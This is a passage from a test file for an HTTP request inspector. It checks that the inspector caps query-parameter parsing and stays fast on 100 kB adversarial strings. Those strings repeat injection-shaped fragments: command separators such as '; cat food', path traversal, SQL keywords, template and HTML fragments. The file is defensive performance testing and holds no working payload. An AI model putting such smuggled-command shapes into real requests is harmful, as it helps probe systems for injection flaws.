    expect(inspectRequest(post('/', { code: 'x'.repeat(50) }), { mode: 'strict', freeTextFields: new Set(['code']) }, free)).toBeNull();
  });

  it('reads no more query parameters than it may inspect', () => {
    const many = Array.from({ length: 200_000 }, (_, i) => `k${i}=v`).join('&');
    const started = performance.now();
    expect(inspectRequest(get('/v1/x', many), STRICT)).toEqual({ rule: 'input_too_complex', location: 'query' });
    expect(performance.now() - started).toBeLessThan(500);
  });
});

describe('cost on hostile input', () => {
  it('stays linear on 100 kB adversarial values (no catastrophic backtracking)', () => {
    const n = 100_000;
    const shapes = [
      '{{a'.repeat(n / 3), '${a'.repeat(n / 3), '/' + '?'.repeat(n), '<a '.repeat(n / 3), "'a".repeat(n / 2), '"a'.repeat(n / 2),
      '; cat food'.repeat(n / 10), '`a'.repeat(n / 2), '%25'.repeat(n / 3), '&#60'.repeat(n / 4), '../'.repeat(n / 3), '('.repeat(n),
      '/*'.repeat(n / 2), '@'.repeat(n), '" on'.repeat(n / 4), 'select union or and '.repeat(n / 20), '\ncat x'.repeat(n / 6),
    ];
    for (const value of shapes) {
      const started = performance.now();
      inspectValue(value, 'strict', 'body');
      expect(performance.now() - started, JSON.stringify(value.slice(0, 12))).toBeLessThan(250);
    }
  });
});
